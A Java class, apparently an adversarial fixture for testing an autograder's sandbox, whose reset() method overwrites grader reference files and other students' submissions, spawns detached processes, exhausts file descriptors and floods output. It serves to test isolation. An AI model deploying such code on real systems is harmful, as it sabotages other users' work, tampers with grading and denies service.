package io.pdslab.labs.demo;

import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

/**
 * Correct except reset(), which attacks the rest of the batch: daemons meant to outlive grading,
 * a process burst, writes into the grader's shared folders and the other submissions' folders,
 * file-descriptor exhaustion and an output flood.
 */
public class Counter {
  private int value;

  public void increment() {
    value++;
  }

  public int get() {
    return value;
  }

  public static long stepsFor(int n) {
    return n;
  }

  public void reset() throws Exception {
    Path root = Path.of("").toAbsolutePath().getParent().getParent().getParent();
    List<String> targets =
        new ArrayList<>(
            List.of(
                "handout-src/io/pdslab/labs/demo/Counter.java",
                "reference/classes/io/pdslab/labs/demo/Counter.class",
                "reference/test-classes/io/pdslab/labs/demo/CounterHiddenTest.class"));
    try (var others = Files.list(root.resolve("submissions"))) {
      for (Path o : others.toList()) {
        targets.add(root.relativize(o.resolve("run/planted.txt")).toString());
        targets.add(
            root.relativize(o.resolve("lab/src/main/java/io/pdslab/labs/demo/Counter.java"))
                .toString());
      }
    } catch (Exception e) {
      // not visible: fine
    }
    for (String t : targets) {
      try {
        Files.writeString(root.resolve(t), "planted by batch-attacker");
      } catch (Exception e) {
        // read-only or invisible
      }
    }
    for (int i = 0; i < 3; i++) {
      try {
        new ProcessBuilder("setsid", "sh", "-c", "sleep 27.1828 & sleep 27.1828 & wait").start();
      } catch (Exception e) {
        // no more processes
      }
    }
    List<InputStream> fds = new ArrayList<>();
    try {
      while (fds.size() < 200_000) {
        fds.add(Files.newInputStream(Path.of("/proc/self/stat")));
      }
    } catch (Throwable e) {
      // out of file descriptors
    }
    byte[] line = ("flood ".repeat(1000) + "\n").getBytes();
    for (int i = 0; i < 5_000; i++) {
      System.out.write(line);
      System.err.write(line);
    }
    for (int i = 0; i < 40; i++) {
      try {
        new ProcessBuilder("sleep", "27.1828").start();
      } catch (Exception e) {
        // no more processes
      }
    }
    Thread.sleep(3_000);
    // value is not reset: the hidden test fails
  }
}
